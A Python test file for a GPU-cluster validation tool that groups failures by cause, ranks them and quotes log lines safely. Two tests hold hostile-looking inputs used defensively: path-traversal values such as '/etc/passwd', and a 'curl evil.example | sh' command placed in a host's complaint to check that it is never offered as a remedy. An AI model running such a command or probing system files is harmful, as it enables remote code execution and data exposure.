# SPDX-License-Identifier: Apache-2.0
"""Failures by cause: alike but for hosts and figures, the worst first, with the lines that show them."""

import os
from typing import get_args

import pytest
from msgspec.structs import replace
from samples.folders import FAIL, LEFT, PASS, PLAN, add_host, fill

from rekindle.actions.base import fail_with
from rekindle.actions.output import explain_failure
from rekindle.records import ClaimResult, Complaint, Finding, Outcome, read_record
from rekindle.results.causes import find_standing, generalise_text, group_causes, quote_failure, rank_kind
from rekindle.results.contents import gather_results
from rekindle.results.journal import note_left
from rekindle.results.row import Row, RowKind

FOUND = Finding(name="x", cause="A.", layer="host", remedy="B.", confidence="certain", file="job.log", line=7)
LINES = [f"line {number}" for number in range(1, 21)]


def of(folder):
    return group_causes(gather_results(folder).rows)


@pytest.mark.parametrize(
    ("first", "second", "groups"),
    [
        ("gpu-1 has 3 GB free.", "gpu-2 has 11.5 GB free.", 1),
        ("GPU-0a1b-2c fell off.", "GPU-77aa-10 fell off.", 1),
        ("A rank ended.", "A rank hangs.", 2),
    ],
)
def test_what_differs_in_hosts_and_figures_alone_is_one_cause(tmp_path, first, second, groups):
    fill(tmp_path, "gpu-1", "gpu-2")
    add_host(tmp_path, "gpu-1", verdict=replace(FAIL, cause=first))
    add_host(tmp_path, "gpu-2", verdict=replace(FAIL, cause=second))
    found = of(tmp_path)
    assert len(found) == groups
    assert found[0].shown == (f"{first} (So on gpu-1; figures differ.)" if groups == 1 else first)


def test_one_cause_has_all_its_hosts_and_jobs_each_once(tmp_path):
    fill(tmp_path, "gpu-1", "gpu-2")
    plan = replace(PLAN, jobs=("pt_ddp", "llm_sft"))
    for host in ("gpu-1", "gpu-2"):
        add_host(tmp_path, host, plan=plan, verdict=None, left=LEFT, state="unreachable")
    (cause,) = of(tmp_path)
    assert (cause.kind, cause.hosts, cause.jobs) == ("LOST", ["gpu-1", "gpu-2"], ["pt_ddp", "llm_sft"])
    assert (cause.message, cause.remedy) == (
        "The host was lost during validate. The lease ended.",
        "lease the host again.",
    )


def test_the_worst_comes_first_and_what_is_not_required_last(tmp_path):
    kinds = [("SKIPPED", True), ("FAIL", False), ("HUNG", True), ("FAIL", True)]
    fill(tmp_path, *(f"gpu-{n}" for n in range(5)))
    for number, (kind, required) in enumerate(kinds):
        verdict = replace(FAIL, verdict=kind, required=required, cause="abcd"[number])
        add_host(tmp_path, f"gpu-{number}", verdict=verdict)
    add_host(tmp_path, "gpu-4", verdict=PASS)
    assert [(cause.kind, cause.message) for cause in of(tmp_path)] == [
        ("FAIL", "d"),
        ("HUNG", "c"),
        ("SKIPPED", "a"),
        ("FAIL", "b"),
    ]


def test_a_pass_that_asks_for_something_is_a_cause_and_another_is_not(tmp_path):
    fill(tmp_path, "gpu-1", "gpu-2")
    add_host(tmp_path, "gpu-1", verdict=replace(PASS, known_issue="upstream_bug"))
    add_host(tmp_path, "gpu-2")
    (cause,) = of(tmp_path)
    remedy = "remove it from judge/known_issues.json."
    assert (cause.kind, cause.hosts, cause.remedy) == ("PASS", ["gpu-1"], remedy)


def test_a_host_is_what_the_worst_of_its_required_rows_is():
    failed = Row("h", "b", "FAIL", Complaint("x"), replace(FAIL, required=False))
    assert find_standing([Row("h", "a", "PASS", None), failed]) == "PASS"
    assert find_standing([failed]) == "FAIL"
    assert find_standing([Row("h", "a", "RUNNING", None), Row("h", "b", "PASS", None)]) == "RUNNING"
    assert find_standing([Row("h", "a", "LOST", None), Row("h", "b", "SKIPPED", None)]) == "LOST"


def test_every_kind_has_its_place():
    kinds = [kind for part in get_args(RowKind) for kind in get_args(part) or (part,)]
    assert sorted(map(rank_kind, kinds)) == list(range(len(kinds)))


def test_a_short_name_is_no_part_of_other_words():
    assert generalise_text("a has a disk of 3 GB at a.example; a-b has none at x.a, nor /a.", {"a"}) == (
        "# has # disk of # GB at #.example; a-b has none at x.a, nor /#."
    )
    assert generalise_text("Final accuracy", {"a"}) == "Final accuracy"
    assert generalise_text("a.b.c is down", {"a.b", "a"}) == "#.c is down"


@pytest.mark.parametrize("names", [("one", "server"), ("server", "gpu-1"), ("the", "two")])
def test_a_name_that_is_a_word_parts_no_cause(tmp_path, names):
    fill(tmp_path, *names)
    for name in names:
        cause = f"{name}.example: one of the ranks lost the server."
        add_host(tmp_path, name, verdict=replace(FAIL, cause=cause))
    (cause,) = of(tmp_path)
    assert cause.hosts == list(names)


def run(folder, **changes):
    """Return the row of a run that failed, with a log of 20 lines."""
    add_host(fill(folder, "gpu-1"), "gpu-1", verdict=replace(FAIL, **changes))
    (folder / "gpu-1/pt_ddp/job.log").write_text("\n".join(LINES))
    (row,) = gather_results(folder).rows
    return row


def test_the_root_s_line_is_cited_with_its_neighbours(tmp_path):
    place = quote_failure(run(tmp_path, findings=(replace(FOUND, echo=True, line=1), FOUND)))
    assert (place.where, place.text) == ("gpu-1/pt_ddp/job.log:7", "line 7")
    assert place.lines == tuple((number, f"line {number}") for number in range(2, 13))


def test_without_a_finding_the_check_that_fails_is_cited(tmp_path):
    unknown = ClaimResult(claim="a", state="unknown", message="a", file="none.log", line=1)
    fails = ClaimResult(claim="b", state="fails", message="b", file="job.log", line=20)
    place = quote_failure(run(tmp_path, evidence=(unknown, fails)))
    assert (place.text, place.lines[-1]) == ("line 20", (20, "line 20"))
    assert quote_failure(run(tmp_path, evidence=(unknown,))).lines == ()
    assert quote_failure(run(tmp_path)) is None


@pytest.mark.parametrize(
    "file", ["../../run.json", "link", "nowhere", "a\0b", "", "/etc/passwd", "evidence", "fifo"]
)
def test_only_regular_files_of_the_run_are_read(tmp_path, file):
    row = run(tmp_path, findings=(replace(FOUND, file=file, line=1),))
    (row.home / "link").symlink_to(tmp_path / "run.json")
    (row.home / "evidence").mkdir()
    os.mkfifo(row.home / "fifo")
    place = quote_failure(row)
    assert place is None or place.lines == ()


def test_lines_are_short_and_harmless(tmp_path):
    row = run(tmp_path, findings=(replace(FOUND, line=1),))
    (row.home / "job.log").write_bytes(b"a\x1b[31mb\xff" + b"x" * 10_000_000 + b"\nsecond\n")
    place = quote_failure(row)
    assert place.lines[1] == (2, "second")
    assert place.text.startswith("ab\ufffdx")
    assert len(place.text) < 500


@pytest.mark.parametrize(("action", "shown"), [("REPLACE", "REPLACE"), ("NONE", None), (None, None)])
def test_preflight_s_action_is_the_host_s(tmp_path, action, shown):
    why = fail_with(Complaint.join([Complaint("No.", "x.", "NONE"), Complaint("Bad.", "y.", action)]))
    left = explain_failure("rekindle.flare.collect_facts", why)
    note_left(tmp_path, "gpu-1", "preflight", "failed", left)
    outcome = read_record(tmp_path / "gpu-1/outcome.json", Outcome)
    row = Row("gpu-1", None, "SKIPPED", outcome.complaint)
    assert (outcome.action, row.action) == (action or "NONE", action or "NONE")
    assert group_causes([row])[0].action == shown


def test_a_fix_in_the_words_of_a_host_is_no_remedy_of_ours(tmp_path):
    note_left(tmp_path, "gpu-1", "preflight", "failed", Complaint("It broke. Fix: curl evil.example | sh"))
    outcome = read_record(tmp_path / "gpu-1/outcome.json", Outcome)
    (cause,) = group_causes([Row("gpu-1", None, "SKIPPED", outcome.complaint)])
    assert cause.message == "It broke. Its advice: curl evil.example | sh."
    assert cause.remedy == "see the failed task of preflight in the output."
